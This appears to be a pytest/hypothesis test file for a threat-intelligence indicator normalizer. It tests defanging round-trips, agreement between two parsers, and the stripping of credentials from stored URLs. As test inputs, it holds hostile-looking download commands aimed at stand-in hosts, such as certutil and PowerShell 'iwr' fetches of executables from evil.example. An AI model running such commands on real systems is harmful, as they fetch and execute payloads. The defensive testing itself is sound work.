"""One indicator normalizer (``actions.indicators``) behind both doors: ``Indicator.parse`` (alerts) and
``actions.intel.normalize`` (feeds, providers). Defanging round-trips through it, it is idempotent, and no
credential survives it into a stored indicator."""

from __future__ import annotations

import unicodedata
from urllib.parse import unquote

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

import actions.indicators
import actions.intel
from actions.indicators import InvalidIndicator, normalize, parse_any, strip_credentials
from flows.models import Indicator, IndicatorType, defang, iocs_in_text, refang

# -- generated indicators ----------------------------------------------------------------------------------

LABELS = st.from_regex(r"\A[a-z0-9]([a-z0-9-]{0,10}[a-z0-9])?\Z")
UNICODE_LABELS = st.sampled_from(["bücher", "пример", "例え", "café", "ñandú", "straße", "δοκιμή"])
TLDS = st.sampled_from(["com", "net", "org", "top", "example", "xn--p1ai", "de", "onion"])
DOMAINS = st.builds(
    lambda labels, tld, dot: ".".join([*labels, tld]) + dot,
    st.lists(LABELS | UNICODE_LABELS, min_size=1, max_size=3),
    TLDS,
    st.sampled_from(["", "."]),
) | st.builds(
    lambda labels, tld: ".".join([*labels, tld]).upper(), st.lists(LABELS, min_size=1, max_size=3), TLDS
)
IPV4 = st.ip_addresses(v=4).map(str)
IPV6 = st.ip_addresses(v=6).flatmap(lambda a: st.sampled_from([a.compressed, a.exploded, a.exploded.upper()]))
HOSTS = DOMAINS | IPV4 | IPV6.map(lambda a: f"[{a}]")
PATHS = st.from_regex(r"\A(/[A-Za-z0-9._~-]{0,12}){0,3}(\?[a-z0-9]{1,6}=[A-Za-z0-9.]{0,8})?\Z")
URLS = st.builds(
    lambda scheme, host, port, path: f"{scheme}://{host}{port}{path}",
    st.sampled_from(["http", "https", "ftp", "HTTP", "hTTps"]),
    HOSTS,
    st.sampled_from(["", ":80", ":8443"]),
    PATHS,
)
HASHES = st.sampled_from([32, 40, 64]).flatmap(
    lambda n: st.from_regex(rf"\A[0-9a-fA-F]{{{n}}}\Z").filter(lambda h: any(c.isalpha() for c in h))
)
INDICATORS = DOMAINS | IPV4 | IPV6 | URLS | HASHES


def _both(value: str) -> tuple[tuple[str, str] | None, tuple[str, str] | None]:
    """What each door makes of ``value``: (alert side, intel side), None where refused."""
    found = Indicator.parse(value)
    try:
        intel = actions.intel.normalize(actions.intel.guess_type(value) or "unknown", value)
    except InvalidIndicator:
        intel = None
    return (None if found is None else (found.type.value, found.value)), intel


@settings(max_examples=400, deadline=None)
@given(INDICATORS)
@example("http://Evil.example.net/a.php?q=1")
@example("2001:DB8:0:0:0:0:0:1")
def test_refanging_a_defanged_indicator_gives_the_same_indicator(value: str) -> None:
    plain = _both(value)
    shown = defang(value)

    assert plain[0] is not None and plain[0] == plain[1]
    assert _both(refang(shown)) == plain
    assert _both(shown) == plain  # the normalizer refangs by itself


@settings(max_examples=400, deadline=None)
@given(INDICATORS | st.text(max_size=80))
def test_normalizing_twice_changes_nothing_and_both_doors_agree(value: str) -> None:
    alert_side, intel_side = _both(value)

    assert alert_side == intel_side
    if alert_side is not None:
        kind, canonical = alert_side
        assert normalize(kind, canonical) == alert_side
        again = Indicator.parse(canonical, hint=IndicatorType(kind))
        assert again is not None and (again.type.value, again.value) == alert_side


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(list(IndicatorType)), st.text(max_size=120))
def test_parsing_with_any_hint_is_idempotent(hint: IndicatorType, raw: str) -> None:
    first = Indicator.parse(raw, hint=hint)
    if first is not None:
        again = Indicator.parse(first.value, hint=first.type)
        assert again is not None and again.value == first.value and again.type is first.type


# -- no credential survives --------------------------------------------------------------------------------

SECRET = "Hunter2Secret"


def _disguised(secret: str, how: str) -> str:
    if how == "percent":
        return "".join(f"%{ord(c):02X}" if i % 2 else c for i, c in enumerate(secret))
    if how == "fullwidth":  # NFKC makes it the secret again
        return "".join(chr(ord(c) + 0xFEE0) if c.isalnum() else c for c in secret)
    if how == "zero-width":
        return "\u200b".join(secret)
    if how == "combining":
        return secret[:3] + "\u0301" + secret[3:]
    return secret


USERINFO = st.builds(
    lambda user, secret, suffix: f"{user}:{secret}{suffix}" if user else f"{secret}{suffix}",
    st.sampled_from(["", "admin", "us%65r", "user.name", "ü"]),
    st.sampled_from(["plain", "percent", "fullwidth", "zero-width", "combining"]).map(
        lambda how: _disguised(SECRET, how)
    ),
    st.from_regex(r"\A[A-Za-z0-9!$&'*+,;=~._-]{0,6}\Z"),
)
AT = st.sampled_from(["@", "[@]", "[at]", "(at)", "%40", "\uff20", "\ufe6b", "@@", "@evil.example@"])
SEPARATORS = st.sampled_from(["://", "[://]", "[:]//", ":[//]", ":\\\\", "%3A%2F%2F", "\uff1a\uff0f\uff0f"])
CREDENTIALED = st.builds(
    lambda prefix, scheme, separator, userinfo, at, host, path: (
        f"{prefix}{scheme}{separator}{userinfo}{at}{host}{path}"
    ),
    st.sampled_from(["", "", "", "C:\\Temp\\x.exe ", "curl -s ", "HKCU\\Run\\x="]),
    st.sampled_from(["http", "hxxps", "ftp", "fxp", "HTTP"]),
    SEPARATORS,
    USERINFO,
    AT,
    HOSTS,
    PATHS,
)
HINTS = st.sampled_from([None, *IndicatorType])


def _shows_the_secret(value: str) -> bool:
    readable = unicodedata.normalize("NFKC", unquote(unquote(value)))
    readable = "".join(c for c in readable if unicodedata.category(c) not in ("Cf", "Mn"))
    return SECRET.casefold() in readable.casefold()


@settings(max_examples=600, deadline=None)
@given(CREDENTIALED, HINTS)
@example("http://admin:Hunter2Secret@Evil.example.net/x", None)
@example("http://admin:Hunter2Secret@evil.example.net@good.example/x", IndicatorType.URL)
@example("hxxp://admin:Hunter2Secret[@]evil[.]example/", IndicatorType.FILE_PATH)
@example("curl http%3A%2F%2Fadmin%3AHunter2Secret%40evil.example", IndicatorType.REGISTRY_VALUE)
def test_no_credential_survives_into_an_indicator(raw: str, hint: IndicatorType | None) -> None:
    found = Indicator.parse(raw, hint=hint)
    assert found is None or not _shows_the_secret(found.value), found

    for kind in ("url", "domain", "ip", "hash"):
        try:
            _, value = actions.intel.normalize(kind, raw)
        except InvalidIndicator as error:
            assert not _shows_the_secret(str(error))
        else:
            assert not _shows_the_secret(value)


@given(CREDENTIALED)
def test_no_indicator_keeps_credentials_however_it_is_built(raw: str) -> None:
    # Read back from the store or found in text, not parsed: the model itself drops them.
    for kind in IndicatorType:
        assert not _shows_the_secret(Indicator(type=kind, value=raw[:4096]).value)
    if not set(raw) & set(" '\"<>|^`"):  # else the text holds another URL: it ends at the quote
        for found in iocs_in_text(f"powershell -c iwr {raw} -o x.exe", "cmd_line"):
            assert not _shows_the_secret(found.value)


def test_a_credentialed_url_from_an_alert_is_stored_without_them() -> None:
    found = Indicator.parse("http://user:pass@Evil.example.net:8080/x?q=1", hint=IndicatorType.URL)

    assert found is not None and found.value == "http://evil.example.net:8080/x?q=1"
    assert strip_credentials("see ftp://u:p@files.example/ and http://x/?next=http://a:b@y/") == (
        "see ftp://files.example/ and http://x/?next=http://y/"
    )


# -- where the two normalizers disagreed -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("evil(dot)example(dot)com", ("domain", "evil.example.com")),
        ("evil{dot}example[ . ]com", ("domain", "evil.example.com")),
        ("hxxp[://]evil[.]example/x", ("url", "http://evil.example/x")),
        ("hxxps:[//]evil[.]example", ("url", "https://evil.example")),
        ("http://user:pass@Evil.example/x", ("url", "http://evil.example/x")),
        ("_dmarc.evil.example.net", ("domain", "_dmarc.evil.example.net")),
        ("bücher.example", ("domain", "xn--bcher-kva.example")),
        ("fxpro.com", ("domain", "fxpro.com")),  # fxp is a scheme only before ":"
        ("::ffff:203.0.113.7", ("ipv4", "203.0.113.7")),
        ("http://[::ffff:203.0.113.7]:8080/", ("url", "http://203.0.113.7:8080/")),
        ("http://3735928559/login", ("url", "http://222.173.190.239/login")),
        ("http://0x7f.1/", ("url", "http://127.0.0.1/")),
        ("http://evil.example\\@good.example/", ("url", "http://evil.example/@good.example/")),
        ("http://ws-finance-07/share", ("url", "http://ws-finance-07/share")),
    ],
)
def test_both_doors_give_the_same_canonical_value(raw: str, expected: tuple[str, str]) -> None:
    assert _both(raw) == (expected, expected)
    assert parse_any(raw) == expected


@pytest.mark.parametrize(
    "raw",
    [
        "fe80::1%eth0",
        "http://admin:pw%40evil.example/",
        "http://admin:pw\uff20evil.example/",
        "http://256.1.1.1/",
    ],
)
def test_both_doors_refuse_the_same_values(raw: str) -> None:
    assert _both(raw) == (None, None)


def test_hints_keep_their_meaning() -> None:
    assert Indicator.parse("WS-FINANCE-07", hint=IndicatorType.DOMAIN) is None
    assert Indicator.parse("evil.example", hint=IndicatorType.IPV4) is None
    v6 = Indicator.parse("2001:db8::1", hint=IndicatorType.IPV4)
    assert v6 is not None and v6.type is IndicatorType.IPV6
    x509 = Indicator.parse(
        "5A:3F:0D:8F:5E:1C:2B:4D:6A:7B:8C:9D:0E:1F:2A:3B:4C:5D:6E:7F", hint=IndicatorType.X509_SHA1
    )
    assert x509 is not None and x509.value == "5a3f0d8f5e1c2b4d6a7b8c9d0e1f2a3b4c5d6e7f"
    path = Indicator.parse(r"C:\Users\x\AppData\evil.exe", hint=IndicatorType.FILE_PATH)
    assert path is not None and path.value == r"C:\Users\x\AppData\evil.exe"


def test_text_defanged_in_any_form_refang_knows_is_found() -> None:
    text = "certutil -f hxxp[://]evil[.]example/a.exe & ping c2[dot]evil(dot)com 8.8(.)4{.}4"

    found = iocs_in_text(text, "cmd_line")

    assert [(i.type, i.value) for i in found] == [
        (IndicatorType.URL, "http://evil.example/a.exe"),
        (IndicatorType.IPV4, "8.8.4.4"),
        (IndicatorType.DOMAIN, "c2.evil.com"),
    ]


def test_the_models_refang_is_the_shared_one() -> None:
    assert refang is actions.indicators.refang is actions.intel.refang
    assert actions.intel.normalize is actions.indicators.normalize
